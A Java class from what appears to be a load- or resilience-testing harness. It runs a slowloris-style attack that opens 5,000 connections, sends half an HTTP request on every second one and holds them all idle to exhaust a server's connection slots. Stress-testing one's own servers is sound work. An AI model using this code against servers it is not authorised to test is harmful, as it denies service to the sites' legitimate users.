package attacks;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** 5,000 connections on which nothing follows; every second one has begun a request. */
final class IdleConnections implements Attack {

    private static final int CONNECTIONS = 5_000;
    private static final byte[] BEGUN = "GET /wiki/Main HTTP/1.1\r\nHost: loc".getBytes(StandardCharsets.US_ASCII);

    private final Crowd crowd;

    IdleConnections(Crowd crowd) {
        this.crowd = crowd;
    }

    @Override
    public void run() throws Exception {
        List<Socket> open = new ArrayList<>();
        try {
            for (int i = 0; i < CONNECTIONS; i++) {
                open(i, open);
            }
            Thread.sleep(Options.SECONDS * 1_000L);
        } finally {
            for (Socket socket : open) {
                socket.close();
            }
        }
    }

    private void open(int number, List<Socket> open) {
        try {
            Socket socket = Connection.connected(Connection.address(3, number / 20));
            open.add(socket);
            if (number % 2 == 0) {
                socket.getOutputStream().write(BEGUN);
            }
            crowd.got("opened");
        } catch (IOException refused) {
            crowd.got("refused");
        }
    }
}
